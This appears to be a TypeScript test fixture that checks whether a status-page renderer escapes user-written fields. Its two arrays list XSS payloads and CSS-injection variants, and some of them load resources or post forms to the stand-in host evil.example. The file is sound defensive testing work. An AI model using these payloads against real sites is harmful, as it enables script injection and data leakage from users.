import type { ComponentView, IncidentView, PageView } from '../../control-plane/pages/core/types.ts'

/** Texts that run, load or break out where a page does not escape them. Each would set `window.hit` or request `evil.example`. */
export const TEXT_ATTACKS = [
  '<script>window.hit=1</script>',
  '"><script>window.hit=2</script>',
  "'><img src=x onerror=window.hit=3>",
  '<img src="https://evil.example/i.png">',
  '<svg/onload=window.hit=4>',
  '</title><script>window.hit=5</script>',
  '</style><script>window.hit=6</script><style>',
  '</script><script>window.hit=7</script>',
  '</textarea></noscript></template><iframe srcdoc="<script>parent.hit=8</script>"></iframe>',
  '" autofocus onfocus="window.hit=9" x="',
  "' onmouseover='window.hit=10",
  'javascript:window.hit=11',
  '[x](javascript:window.hit=12)',
  '<a href="javascript:window.hit=13" id=o>x</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=14&gt;">',
  '<details open ontoggle=window.hit=15>',
  `{{constructor.constructor("window.hit=16")()}} $\{window.hit=17} <%= 1 %>`,
  '&lt;script&gt;window.hit=18&lt;/script&gt; &#60;script>window.hit=19</script>',
  '\u2028\u2029\u202e<scr\u0000ipt>window.hit=20</script>',
  '<!--><script>window.hit=21</script-->',
  ']]><script>window.hit=22</script>',
  `<form action=https://evil.example><button>x</button></form>`,
  'W'.repeat(300),
]

const evil = 'https://evil.example/x'

/** CSS that loads a resource, leaves its element or runs, in all spellings that browsers accept. */
export const CSS_ATTACKS = [
  `@import "${evil}";`,
  `@\\69mport url(${evil});`,
  `.page{background:url(${evil})}`,
  `.page{background:url( '${evil}' )}`,
  `.page{background:u\\72l(${evil})}`,
  `.page{background:\\75\\72\\6c("${evil}")}`,
  `.page{background:image-set("${evil}" 1x)}`,
  `.page{background:-webkit-image-set(url(${evil}) 1x)}`,
  `.page{background:src("${evil}")}`,
  `.page{background:cross-fade(url(${evil}),red)}`,
  `.page{--x:url(${evil});background:var(--x)}`,
  `.page{cursor:url(${evil}),auto;list-style-image:url(${evil});border-image-source:url(${evil})}`,
  `.page{mask:url(${evil}#x);filter:url(${evil}#x);clip-path:url(${evil}#x)}`,
  `.page::before{content:url(${evil})}`,
  `@font-face{font-family:x;src:url(${evil})}.page{font-family:x}`,
  `@namespace x url(${evil});`,
  `@property --x{syntax:"<image>";inherits:false;initial-value:url(${evil})}`,
  `h1{width:expression(window.hit=31)}`,
  `h1{behavior:url(${evil})}`,
  `h1{-moz-binding:url(${evil})}`,
  `</style><script>window.hit=32</script><style>`,
  `.x{content:"</style><script>window.hit=33</script>"}`,
  `.x{content:'</style><img src=${evil} onerror=window.hit=34>'}`,
  `<!--</style><script>window.hit=35</script>`,
  `/*</style><script>window.hit=36</script>*/.x{color:red}`,
  `.x{color:red}}</style ><script>window.hit=37</script>`,
]

/** `view` with `text` in every field that people can write. */
export function withHostileText(view: PageView, text: string): PageView {
  const component = (one: ComponentView): ComponentView => ({
    ...one,
    name: text,
    description: text,
    days: one.days?.map(day => ({ ...day, incidents: day.incidents.map(({ id }) => ({ id, title: text })) })) ?? null,
  })
  const incident = (one: IncidentView): IncidentView => ({
    ...one,
    title: text,
    updates: one.updates.map(update => ({ ...update, message: text })),
    componentNames: [text, text],
  })
  return {
    ...view,
    name: text,
    seoTitle: text,
    seoDescription: text,
    logoUrl: text,
    faviconUrl: text,
    overall: { ...view.overall, sentence: text },
    sections: view.sections.map(section =>
      section.kind === 'component'
        ? { kind: 'component', component: component(section.component) }
        : {
            kind: 'group',
            group: {
              ...section.group,
              name: text,
              description: text,
              components: section.group.components.map(component),
            },
          },
    ),
    openIncidents: view.openIncidents.map(incident),
    pastIncidents: view.pastIncidents.map(incident),
    maintenance: view.maintenance.map(one => ({ ...one, name: text, description: text, componentNames: [text] })),
  }
}
